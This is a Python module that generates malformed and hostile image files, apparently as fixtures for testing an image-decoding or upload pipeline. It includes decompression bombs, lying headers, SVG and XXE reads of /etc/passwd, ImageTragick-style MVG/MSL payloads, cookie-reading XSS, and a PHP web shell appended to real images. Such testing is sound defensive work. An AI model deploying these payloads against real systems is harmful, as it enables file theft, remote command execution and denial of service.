"""Malformed pictures as attackers make them: cut, flipped, lying, bombs, and files that are two things at once."""

import random
import struct
import zipfile
import zlib
from collections.abc import Iterator
from io import BytesIO

import pyvips

FORMATS = ("jpg", "png", "gif", "webp")


def genuine(extension: str, size: tuple[int, int] = (320, 240)) -> bytes:
    image = pyvips.Image.perlin(*size, cell_size=32, uchar=True)
    image = image.bandjoin([image.invert(), image]).copy(interpretation="srgb")
    return image.write_to_buffer(f".{extension}")


def cut(seed: int) -> Iterator[tuple[str, str, bytes]]:
    dice = random.Random(seed)
    for extension in FORMATS:
        whole = genuine(extension)
        for at in sorted({0, 1, 2, 3, 8, 12, 30, len(whole) - 1, *(dice.randrange(len(whole)) for _ in range(20))}):
            yield f"cut-{at}", extension, whole[:at]


def flipped(seed: int, number: int) -> Iterator[tuple[str, str, bytes]]:
    dice = random.Random(seed)
    for extension in FORMATS:
        whole = genuine(extension)
        for index in range(number):
            damaged = bytearray(whole)
            # Half of them in the header, where the lies are.
            reach = 80 if index % 2 else len(whole)
            for _ in range(dice.choice((1, 2, 8, 64))):
                damaged[dice.randrange(reach)] = dice.randrange(256)
            yield f"flip-{index}", extension, bytes(damaged)


def shuffled(seed: int, number: int) -> Iterator[tuple[str, str, bytes]]:
    """Pieces of genuine files, doubled, left out and exchanged."""
    dice = random.Random(seed)
    for extension in FORMATS:
        whole = genuine(extension)
        for index in range(number):
            borders = sorted(dice.randrange(len(whole)) for _ in range(4))
            pieces = [whole[a:b] for a, b in zip([0, *borders], [*borders, len(whole)], strict=True)]
            head, rest = pieces[0], pieces[1:]
            dice.shuffle(rest)
            yield f"shuffle-{index}", extension, head + b"".join(rest * dice.choice((1, 2)))


def lying() -> Iterator[tuple[str, str, bytes]]:
    """Headers that promise far more than there is."""
    for width, height in ((65_500, 65_500), (1, 65_500), (65_500, 1), (0, 0), (20_000, 20_000)):
        jpeg = bytearray(genuine("jpg"))
        start = jpeg.index(b"\xff\xc0") + 5
        jpeg[start : start + 4] = struct.pack(">HH", height, width)
        yield f"size-{width}x{height}", "jpg", bytes(jpeg)
        gif = bytearray(genuine("gif"))
        gif[6:10] = struct.pack("<HH", width & 0xFFFF, height & 0xFFFF)
        yield f"size-{width}x{height}", "gif", bytes(gif)
    for width, height in ((2**31 - 1, 2**31 - 1), (2**31 - 1, 1), (0, 5), (100_000, 100_000), (2**32 - 1, 2**32 - 1)):
        png = genuine("png")
        header = struct.pack(">II", width, height) + png[24:29]
        yield f"size-{width}x{height}", "png", png[:16] + header + _crc(b"IHDR" + header) + png[33:]
    webp = bytearray(genuine("webp"))
    webp[4:8] = struct.pack("<I", 2**32 - 1)
    yield "riff-length", "webp", bytes(webp)


def bombs() -> Iterator[tuple[str, str, bytes]]:
    """Small files that become large: pixels, frames, scans, compressed metadata."""
    yield "pixels", "png", png_of_zeros(30_000, 30_000)
    yield "pixels-allowed-but-many", "png", png_of_zeros(12_000, 8_000)
    frame = pyvips.Image.black(2_000, 2_000)
    yield "pixels", "gif", frame.write_to_buffer(".gif")
    # 200 small frames; the first one's picture, again and again.
    frames = pyvips.Image.arrayjoin([pyvips.Image.black(64, 64) + number % 255 for number in range(200)], across=1)
    frames = frames.cast("uchar").copy()
    frames.set_type(pyvips.GValue.gint_type, "page-height", 64)
    yield "frames", "gif", frames.write_to_buffer(".gif")
    yield "frames", "webp", frames.copy(interpretation="b-w").write_to_buffer(".webp")
    yield "scans", "jpg", scans()
    png = genuine("png")
    chunk = b"zTXt" + b"bomb\0\0" + packed(b"x" * 1_000_000, 200)
    yield "compressed-text", "png", png[:33] + struct.pack(">I", len(chunk) - 4) + chunk + _crc(chunk) + png[33:]
    profile = b"iCCP" + b"icc\0\0" + packed(bytes(1_000_000), 100)
    yield "profile", "png", png[:33] + struct.pack(">I", len(profile) - 4) + profile + _crc(profile) + png[33:]
    comment = b"\xff\xfe\xff\xff" + b"c" * 65_533
    plain = genuine("jpg")
    yield "comments", "jpg", plain[:2] + comment * 200 + plain[2:]
    exif = b"Exif\0\0MM\0*" + struct.pack(">IH", 8, 60_000) + struct.pack(">HHII", 0x8769, 4, 1, 8) * 4_000
    yield (
        "exif-that-points-at-itself",
        "jpg",
        plain[:2] + b"\xff\xe1" + struct.pack(">H", len(exif) + 2) + exif + plain[2:],
    )


def scans() -> bytes:
    """A JPEG that decodes for ever."""
    jpeg = pyvips.Image.black(3_000, 3_000, bands=3).copy(interpretation="srgb").jpegsave_buffer(interlace=True)
    scan = jpeg.rindex(b"\xff\xda")
    return jpeg[:-2] + jpeg[scan:-2] * 3_000 + jpeg[-2:]


def strangers() -> Iterator[tuple[str, str, bytes]]:
    """Other things under a picture's name: what a decoder of everything would open, and files that are two things."""
    secret = b"/etc/passwd"
    texts = {
        "svg-that-reads": b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
        b'<image xlink:href="file:///etc/passwd" width="9" height="9"/></svg>',
        "svg-entities": b'<!DOCTYPE s [<!ENTITY a SYSTEM "file:///etc/passwd">]><svg><text>&a;</text></svg>',
        "mvg": b"push graphic-context\nviewbox 0 0 9 9\nimage over 0,0 0,0 'label:@/etc/passwd'\npop graphic-context",
        "msl": b'<?xml version="1.0"?><image><read filename="/etc/passwd"/><write filename="/tmp/x"/></image>',
        "postscript": b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file 100 string readstring pop print",
        "pdf": b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\ntrailer<</Root 1 0 R>>",
        "php": b"<?php readfile('/etc/passwd'); ?>",
        "html": b"<!doctype html><script>alert(document.cookie)</script>",
        "matlab": b"MATLAB 5.0 MAT-file" + bytes(120),
        "openexr": b"v/1\x01" + bytes(100),
        "tiff": b"II*\0\x08\0\0\0" + struct.pack("<H", 1) + struct.pack("<HHII", 0x111, 4, 1, 2**31),
        "bmp": b"BM" + struct.pack("<IHHIIiiHH", 2**31, 0, 0, 54, 40, 30_000, 30_000, 1, 24) + bytes(24),
        "vips": b"\x08\xf2\xa6\xb6" + struct.pack("<IIIIIIII", 9, 9, 3, 8, 0, 0, 0, 0) + bytes(60),
        "csv": b"1,2,3\n4,5,6\n",
        "ppm": b"P6 30000 30000 255\n",
        "radiance": b"#?RADIANCE\nFORMAT=32-bit_rle_rgbe\n\n-Y 9 +X 9\n",
        "heif": b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + bytes(100),
        "zeros": bytes(5_000),
        "text": secret * 100,
        "nothing": b"",
    }
    for name, content in texts.items():
        for extension in ("jpg", "png"):
            yield name, extension, content
    archive = BytesIO()
    with zipfile.ZipFile(archive, "w") as writer:
        writer.writestr("evil.php", "<?php ?>")
    for extension in FORMATS:
        yield "and-a-zip", extension, genuine(extension) + archive.getvalue()
        yield "and-php", extension, genuine(extension) + b"<?php system($_GET['c']); ?>"
        yield "behind-html", extension, b"<html>" + genuine(extension)
        for other in FORMATS:
            yield f"is-{other}", extension, genuine(other)


def png_of_zeros(width: int, height: int) -> bytes:
    """A PNG whose rows, in hundreds, are all zeros: a thousandth of its pixels on disk."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    chunks = ((b"IHDR", header), (b"IDAT", packed(bytes(100 * (width + 1)), height // 100)), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(content)) + name + content + _crc(name + content) for name, content in chunks
    )


def packed(part: bytes, times: int) -> bytes:
    """So many of one part, as zlib packs them; all alike, as would take it seconds for a gigabyte."""
    packer = zlib.compressobj(9, wbits=-15)
    once = packer.compress(part) + packer.flush(zlib.Z_FULL_FLUSH)  # refers to nothing before it
    checksum = 1
    for _ in range(times):
        checksum = zlib.adler32(part, checksum)
    return b"\x78\xda" + once * times + packer.flush() + struct.pack(">I", checksum)


def _crc(content: bytes) -> bytes:
    return struct.pack(">I", zlib.crc32(content))
